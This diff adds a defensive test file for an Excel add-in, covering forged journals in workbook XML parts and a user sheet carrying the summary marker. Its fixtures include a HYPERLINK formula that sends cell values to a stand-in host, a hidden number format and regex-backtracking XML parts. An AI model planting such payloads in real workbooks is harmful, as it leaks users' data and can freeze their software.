@@ -1,0 +1,138 @@
+/**
+ * A received workbook is untrusted (issue 17, the Office side). Its custom XML parts may carry a
+ * forged journal in the add-in's namespace, and its sheets may carry the summary's marker: none
+ * of it may make « Effacer les marques » or « Insérer la synthèse » change a cell the add-in did
+ * not write, run a formula, hide a figure, wipe a sheet, or freeze the pane. Each attack below was
+ * reproduced on the adapter before its fix.
+ */
+import { JOURNAL_NAMESPACE } from '../../src/office/journal';
+import { createSummaryWriter } from '../../src/office/summarySheet';
+import { SUMMARY_MARKER_TOKEN } from '../../src/domain/summaryMarker';
+import { READINGS } from '../../src/office/fake';
+import { layoutAnnex } from '../support/annex-layout';
+import { SHEET, blankCodesSpec, sampleGrid, setup, snapshot, uninstall } from './helpers';
+
+afterEach(uninstall);
+
+const escapeXml = (s: string) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
+const part = (json: unknown) => `<annexe9Journal xmlns="${JOURNAL_NAMESPACE}" version="1">${escapeXml(JSON.stringify(json))}</annexe9Journal>`;
+
+describe.each(READINGS)('forged journals (%s)', (_, readings) => {
+  it('a journal claiming fills it never made changes nothing: no number, no hidden figure, no formula', async () => {
+    const { wb, service } = setup([sampleGrid()], { readings });
+    const sheet = wb.sheet(SHEET);
+    const b10 = wb.cellState(SHEET, 'B10').value;
+    const at = '2026-01-01T00:00:00.000Z';
+    wb.addXmlPart(
+      part({
+        version: 1,
+        sheets: [
+          {
+            sheetId: sheet.id,
+            sheetName: SHEET,
+            marks: [],
+            fills: [
+              { cell: 'L51', written: 13094116, before: '99999999', at },
+              { cell: 'L50', written: 960000, before: 960000, numberFormatBefore: ';;;', at },
+              { cell: 'B10', written: b10, before: '=HYPERLINK("https://exemple.invalid/?d="&L50&"-"&L51,"Voir")', at },
+            ],
+          },
+        ],
+      }),
+    );
+    const before = snapshot(wb);
+    const result = await service.clear('fr');
+    expect(snapshot(wb)).toEqual(before);
+    expect(wb.cellState(SHEET, 'L51').value).toBe(13094116);
+    expect(wb.cellState(SHEET, 'L50').numberFormat).not.toBe(';;;');
+    expect(wb.cellState(SHEET, 'B10').formula).toBeUndefined();
+    expect(result.message).not.toMatch(/revenue à son état d'avant/);
+    expect(result.message).toMatch(/entrées du journal ignorées\b.*L51, L50, B10/);
+  });
+
+  it('a malformed address is ignored and listed; later clears do not throw', async () => {
+    const { wb, service } = setup([layoutAnnex(blankCodesSpec([2])).grid], { readings });
+    wb.addXmlPart(part({ version: 1, sheets: [{ sheetId: wb.sheet(SHEET).id, sheetName: SHEET, marks: [], fills: [{ cell: 'ZZZZ99999999', written: 'x', before: '', at: '' }] }] }));
+    const first = await service.clear('fr');
+    expect(first.ok).toBe(true);
+    expect(first.message).toMatch(/ZZZZ99999999/);
+    // The add-in still works on this workbook: fill, then clear takes its own code back.
+    const outcome = await service.check('fr');
+    expect(await service.fillCodes(outcome, 'fr')).toMatchObject({ ok: true, filled: 1 });
+    const second = await service.clear('fr');
+    expect(second).toMatchObject({ ok: true });
+    expect(wb.cellState(SHEET, 'C24').value).toBeNull();
+  });
+
+  it.each([
+    // Well-formed (Excel refuses anything else): the opening tags sit in a comment of another root.
+    ['256 KB of opening tags, never closed', `<j:note xmlns:j="${JOURNAL_NAMESPACE}"><!--${'<annexe9Journal>'.repeat(16383)}--></j:note>`],
+    ['512 KB of unterminated CDATA sections', `<annexe9Journal xmlns="${JOURNAL_NAMESPACE}">${'<![CDATA['.repeat(58000)}</annexe9Journal>`],
+  ])('a part built to make a regular expression backtrack (%s) is read in linear time', async (_what, xml) => {
+    const { wb, service } = setup([sampleGrid()], { readings });
+    wb.addXmlPart(xml);
+    const t = Date.now();
+    const outcome = await service.check('fr');
+    const cleared = await service.clear('fr');
+    const elapsed = Date.now() - t;
+    expect(outcome.status).toBe('annex');
+    expect(cleared.ok).toBe(false); // an unreadable journal: nothing is done, and it says why
+    expect(cleared.message).toMatch(/journal/);
+    expect(elapsed).toBeLessThan(1500); // generous: reading it takes milliseconds
+  });
+
+  it('a journal of 20 000 entries is capped: clear says how many it ignored, and changes nothing', async () => {
+    const { wb, service } = setup([sampleGrid()], { readings });
+    const fills = Array.from({ length: 20_000 }, (_, i) => ({ id: String(i), cell: `C${(i % 1000) + 1}`, written: 'x', before: '', at: '' }));
+    wb.addXmlPart(part({ version: 2, sheets: [{ sheetId: wb.sheet(SHEET).id, sheetName: SHEET, fills }] }));
+    const before = snapshot(wb);
+    const t = Date.now();
+    const result = await service.clear('fr');
+    expect(Date.now() - t).toBeLessThan(10_000);
+    expect(snapshot(wb)).toEqual(before);
+    expect(result.message).toMatch(/^Marques retirées \(0\) et imputations ajoutées par le contrôle effacées \(0\)\. 20000 entrées du journal ignorées/);
+    expect(result.message).toMatch(/ et \d+ autres\.$/);
+  }, 30000);
+
+  it('a part too large for Excel to hand over: the journal is unreadable, said so, and nothing is written', async () => {
+    const { wb, service } = setup([layoutAnnex(blankCodesSpec([2])).grid], { readings });
+    const fills = Array.from({ length: 80_000 }, (_, i) => ({ id: String(i), cell: 'C24', written: 'x'.repeat(50), before: '', at: '' }));
+    wb.addXmlPart(part({ version: 2, sheets: [{ sheetId: wb.sheet(SHEET).id, sheetName: SHEET, fills }] }));
+    const before = snapshot(wb);
+    const outcome = await service.check('fr');
+    expect(await service.fillCodes(outcome, 'fr')).toMatchObject({ ok: false, message: expect.stringMatching(/^Le journal des modifications du contrôle/) });
+    expect(await service.clear('fr')).toMatchObject({ ok: false, message: expect.stringMatching(/^Le journal des modifications du contrôle/) });
+    expect(snapshot(wb)).toEqual(before);
+  }, 30000);
+});
+
+describe.each(READINGS)('« Insérer la synthèse » and a sheet carrying the marker (%s)', (_, readings) => {
+  const options = { now: () => new Date(2026, 0, 5), notified: () => [], workbookName: () => 'annexe.xlsx' };
+
+  it('a user’s sheet with the two marker values is never wiped: the summary goes to a new sheet', async () => {
+    const { wb, service } = setup([sampleGrid()], { readings }, { writeSummary: createSummaryWriter(options) });
+    const mine = wb.addSheet('Mes notes');
+    wb.enterValue(mine, 0, 0, 'Relecture du 3 janvier : voir les totaux');
+    wb.enterValue(mine, 4, 1, 1234);
+    wb.enterValue(mine, 0, 25, SUMMARY_MARKER_TOKEN);
+    wb.enterValue(mine, 1, 25, SHEET);
+    const before = JSON.stringify(wb.toJSON().sheets.find((s) => s.name === 'Mes notes'));
+    const outcome = await service.insertSummary(await service.check('fr'), 'fr');
+    expect(outcome).toMatchObject({ ok: true });
+    expect(JSON.stringify(wb.toJSON().sheets.find((s) => s.name === 'Mes notes'))).toBe(before);
+    expect(wb.sheets.map((s) => s.name)).toEqual([SHEET, 'Mes notes', 'Synthèse annexe 9']);
+  });
+
+  it('our own summary, unchanged, is replaced in place; once the user wrote in it, a new one is added', async () => {
+    const { wb, service } = setup([sampleGrid()], { readings }, { writeSummary: createSummaryWriter(options) });
+    expect(await service.insertSummary(await service.check('fr'), 'fr')).toMatchObject({ ok: true, replaced: false });
+    wb.setActive(SHEET);
+    expect(await service.insertSummary(await service.check('fr'), 'fr')).toMatchObject({ ok: true, replaced: true });
+    expect(wb.sheets.map((s) => s.name)).toEqual([SHEET, 'Synthèse annexe 9']);
+    wb.userEdit('Synthèse annexe 9', 'A60', { value: 'Vu avec le département le 4 janvier' });
+    wb.setActive(SHEET);
+    expect(await service.insertSummary(await service.check('fr'), 'fr')).toMatchObject({ ok: true, replaced: false });
+    expect(wb.sheets.map((s) => s.name)).toEqual([SHEET, 'Synthèse annexe 9', 'Synthèse annexe 9 (2)']);
+    expect(wb.cellState('Synthèse annexe 9', 'A60').value).toBe('Vu avec le département le 4 janvier');
+  });
+});
